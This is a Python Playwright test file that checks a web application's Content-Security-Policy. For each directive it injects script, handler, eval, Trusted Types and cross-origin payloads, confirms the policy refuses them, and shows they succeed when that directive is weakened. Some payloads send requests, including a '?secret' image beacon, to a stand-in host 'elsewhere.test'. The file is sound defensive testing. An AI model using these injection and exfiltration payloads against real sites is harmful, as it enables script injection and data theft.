"""The security policy of our pages withstands attacks, each of which succeeds where its part is taken away.

So a refusal is the policy's doing, and not that of an attack which could never have succeeded.
"""

from collections.abc import Iterator, Mapping
from contextlib import closing
from types import MappingProxyType
from typing import NamedTuple

import pytest
from playwright.sync_api import Browser, Page, Route

from gateways.http import pages
from gateways.http.headers import page_policy
from tests.browser.conftest import PATIENCE_MS
from tests.browser.hall import COMMUNITY, Hall

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ELSEWHERE = "http://elsewhere.test"
CORS = {"Access-Control-Allow-Origin": "*"}
FILES = {
    "/style.css": ("text/css", "body { color: rgb(1, 2, 3) }"),
    "/script.js": ("text/javascript", "window.slipped = 1"),
}
WITNESS = """
  window.refused = [];
  addEventListener('securitypolicyviolation', seen => refused.push(seen.effectiveDirective));
"""
RUN = "window.slipped === 1"
MARKUP = "document.querySelector('b.slipped') !== null"
COLOUR = "getComputedStyle(document.body).color === 'rgb(1, 2, 3)'"
SENT = ""  # what reaches elsewhere is seen there
# What a browser does that knows nothing of Trusted Types: the rest of the policy must do without.
NO_TYPES: Mapping[str, str] = MappingProxyType({"require-trusted-types-for": "", "trusted-types": ""})
INLINE: Mapping[str, str] = MappingProxyType({"script-src": "'self' 'unsafe-inline'"})
WHOLE: Mapping[str, str] = MappingProxyType({})


class Attack(NamedTuple):
    """What is tried, how the page shows that it succeeded ("": it is seen elsewhere), and which part of the
    policy refuses it. It succeeds under the changes `weaker`, and must still be refused under those `among`.
    """

    script: str
    effect: str
    refused_by: str
    weaker: Mapping[str, str]
    among: Mapping[str, str] = WHOLE


_SCRIPT = """const one = document.createElement('script');
  one.text = 'window.slipped = 1'; document.head.append(one)"""
_HANDLER = "document.body.setAttribute('onclick', 'window.slipped = 1'); document.body.click()"
_EVAL = "eval('window.slipped = 1')"
_STYLE = f"""document.head.append(Object.assign(document.createElement('link'),
  {{rel: 'stylesheet', href: '{ELSEWHERE}/style.css'}}))"""
_OWN_TYPES = """document.body.append(document.createElement('i'));
  document.body.lastChild.outerHTML =
    trustedTypes.createPolicy('own', {createHTML: html => html}).createHTML('<b class="slipped">x</b>')"""
_BASE = f"document.head.append(Object.assign(document.createElement('base'), {{href: '{ELSEWHERE}/'}}))"
_FORM = f"""const one = document.createElement('form');
  one.action = '{ELSEWHERE}/'; document.body.append(one); one.submit()"""
_FRAME = f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{ELSEWHERE}/'}}))"

ATTACKS = {
    "markup": Attack(
        "document.body.insertAdjacentHTML('beforeend', '<b class=\"slipped\">x</b>')",
        MARKUP,
        "require-trusted-types-for",
        {"require-trusted-types-for": ""},
    ),
    "types of one's own": Attack(_OWN_TYPES, MARKUP, "trusted-types", {"trusted-types": ""}),
    "a script": Attack(_SCRIPT, RUN, "require-trusted-types-for", {**NO_TYPES, **INLINE}),
    "a script, without types": Attack(_SCRIPT, RUN, "script-src-elem", {**NO_TYPES, **INLINE}, NO_TYPES),
    "a handler": Attack(_HANDLER, RUN, "require-trusted-types-for", {**NO_TYPES, **INLINE}),
    "a handler, without types": Attack(_HANDLER, RUN, "script-src-attr", {**NO_TYPES, **INLINE}, NO_TYPES),
    "text as a script": Attack(
        _EVAL, RUN, "require-trusted-types-for", {**NO_TYPES, "script-src": "'self' 'unsafe-eval'"}
    ),
    "text as a script, without types": Attack(
        _EVAL, RUN, "script-src", {**NO_TYPES, "script-src": "'self' 'unsafe-eval'"}, NO_TYPES
    ),
    "a script from elsewhere": Attack(
        f"import('{ELSEWHERE}/script.js').catch(() => 0)", RUN, "script-src-elem", {"script-src": "*"}
    ),
    "a style": Attack(
        "document.body.setAttribute('style', 'color: rgb(1, 2, 3)')",
        COLOUR,
        "style-src-attr",
        {"style-src": "'self' 'unsafe-inline'"},
    ),
    "a style from elsewhere": Attack(_STYLE, COLOUR, "style-src-elem", {"style-src": "*"}),
    "a question to elsewhere": Attack(
        f"fetch('{ELSEWHERE}/').catch(() => 0)",
        SENT,
        "connect-src",
        {"connect-src": "*"},
    ),
    "a picture from elsewhere": Attack(
        f"new Image().src = '{ELSEWHERE}/?secret'", SENT, "img-src", {"img-src": "*"}
    ),
    "a page within": Attack(_FRAME, SENT, "frame-src", {"default-src": "*"}),
    "a form to elsewhere": Attack(_FORM, SENT, "form-action", {"form-action": "*"}),
    "another base": Attack(
        _BASE, f"document.baseURI.startsWith('{ELSEWHERE}')", "base-uri", {"base-uri": "*"}
    ),
}


def weakened(policy: str, changes: Mapping[str, str]) -> str:
    """The policy with other values for some of its directives; with "" they are taken out."""
    parts = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
    assert set(changes) <= set(parts)
    return "; ".join(f"{name} {value}" for name, value in {**parts, **changes}.items() if value)


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with Hall(tmp_path_factory.mktemp("attacked")) as hall:
        hall.found(members=1)
        yield f"{hall.url}/c/{COMMUNITY}/enter"


def attacked(page: Page, address: str) -> list[str]:
    """Open the page; gives the addresses that it asks elsewhere for, as they come."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(path := route.request.url.removeprefix(ELSEWHERE))
        kind, body = FILES.get(path, ("text/html", "<p>elsewhere</p>"))
        route.fulfill(content_type=kind, body=body, headers=CORS)

    page.set_default_timeout(PATIENCE_MS)
    page.route(f"{ELSEWHERE}/**", answer)
    page.add_init_script(WITNESS)
    page.goto(address)
    page.wait_for_selector(".card")
    assert page.evaluate("refused") == []
    return asked


def launch(page: Page, attack: Attack) -> None:
    """Attack from the page itself: what is evaluated for a debugger may do more."""
    script = f"try {{ {attack.script} }} catch (refusal) {{ }}"
    page.evaluate(f"() => {{ setTimeout(() => {{ {script} }}, 0) }}")


@pytest.mark.parametrize("name", ATTACKS)
def test_the_policy_refuses_what_is_not_ours(
    address: str, chromium: Browser, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    attack = ATTACKS[name]
    monkeypatch.setattr(pages, "page_policy", lambda host: weakened(page_policy(host), attack.among))
    with closing(chromium.new_context()) as context:
        page = context.new_page()
        asked = attacked(page, address)
        launch(page, attack)
        page.wait_for_function("one => refused.includes(one)", arg=attack.refused_by)
        assert not attack.effect or not page.evaluate(attack.effect)
        assert asked == []


@pytest.mark.parametrize("name", ATTACKS)
def test_the_same_attack_succeeds_where_its_part_of_the_policy_is_gone(
    address: str, chromium: Browser, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    attack = ATTACKS[name]
    monkeypatch.setattr(pages, "page_policy", lambda host: weakened(page_policy(host), attack.weaker))
    with closing(chromium.new_context()) as context:
        page = context.new_page()
        attacked(page, address)
        if attack.effect:
            launch(page, attack)
            page.wait_for_function(f"() => {attack.effect}")
        else:
            with page.expect_request(f"{ELSEWHERE}/**"):
                launch(page, attack)
